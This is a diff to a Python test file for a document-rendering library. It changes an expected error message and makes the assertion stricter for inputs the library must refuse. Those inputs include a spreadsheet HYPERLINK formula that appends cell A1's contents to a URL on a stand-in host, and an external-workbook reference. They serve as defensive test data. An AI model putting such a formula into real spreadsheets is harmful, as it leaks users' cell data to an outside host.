@@ -579,7 +579,7 @@ REFUSED = {
     "elsewhere": (_formula("SUM(A2,[1]S!A1)"), "a formula that names another workbook or program"),
     "link": (_formula('HYPERLINK("http://x.example/?"&A1,"看")'), "a formula whose link is put together"),
     "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "save it as .xlsx"),
-    "no zip": (b"PK\3\4xl/workbook.xml", "no form"),
+    "no zip": (b"PK\3\4xl/workbook.xml", "the file is broken"),
     "text": (b"a,b", "no Word document"),
 }  # fmt: skip
 
@@ -590,7 +590,7 @@ def test_what_may_act_is_refused(name: str) -> None:
     form, expected = REFUSED[name]
     with pytest.raises((DocumentError, RenderError)) as caught:
         filled(form) if name != "text" else kepu_docs.render(kepu_docs.load(EMPTY), "docx", form=form)
-    assert expected in str(caught.value) or name in ("no zip", "text")
+    assert expected in str(caught.value)
 
 
 @pytest.mark.deep
